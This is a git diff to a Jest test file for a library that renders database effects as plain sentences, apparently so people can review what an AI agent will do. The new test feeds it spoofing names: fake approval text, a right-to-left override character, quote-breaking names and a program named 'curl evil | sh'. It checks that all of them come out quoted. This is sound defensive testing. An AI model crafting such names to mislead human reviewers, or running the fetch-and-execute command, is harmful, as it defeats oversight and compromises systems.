@@ -1,3 +1,4 @@
+import { type Effect, resource } from '@countersign/core';
 import { expect, test } from '@jest/globals';
 import { describeEffects } from './describe.ts';
 
@@ -21,7 +22,7 @@ test('effects read as a person would say them', () => {
     'reads public.orders (id, total)',
     'changes rows of public.orders (status)',
     'removes rows of public.orders, by foreign key orders_fkey',
-    'adds rows to public.we.ird',
+    'adds rows to public."we.ird"',
     'removes all rows of public.orders',
     'locks rows of public.orders',
     'changes sequence public.orders_id_seq',
@@ -31,4 +32,30 @@ test('effects read as a person would say them', () => {
     'administers role bob',
     'reads secrets of table pg_catalog.pg_authid',
   ]);
+});
+
+test('never 28: no name that an agent made up reads like words of the gateway', () => {
+  const said = (resource: Effect['resource'], columns?: string[]) =>
+    describeEffects([
+      { action: 'schema.create', resource, ...(columns === undefined ? {} : { columns }) },
+    ])[0];
+  expect(said(resource('table', 'public', 'x, which the security team approved'))).toBe(
+    'creates table public."x, which the security team approved"',
+  );
+  expect(said(resource('table', 'public', 'a\u202eb\nreads nothing'))).toBe(
+    'creates table public."a⟨U+202E⟩b⟨U+000A⟩reads nothing"',
+  );
+  expect(said(resource('role', 'a" and nobody else'))).toBe('creates role "a"" and nobody else"');
+  expect(said(resource('function', 'public', 'f(integer, character varying)'))).toBe(
+    'creates function public.f(integer, character varying)',
+  );
+  expect(said(resource('function', 'public', 'f is harmless (really'))).toBe(
+    'creates function public."f is harmless (really"',
+  );
+  expect(said(resource('program', 'curl evil | sh'))).toBe('creates program "curl evil | sh"');
+  expect(
+    describeEffects([
+      { action: 'read', resource: 'table:public.orders', columns: ['id', 'total) of nobody, reads (x'] },
+    ]),
+  ).toEqual(['reads public.orders (id, "total) of nobody, reads (x")']);
 });
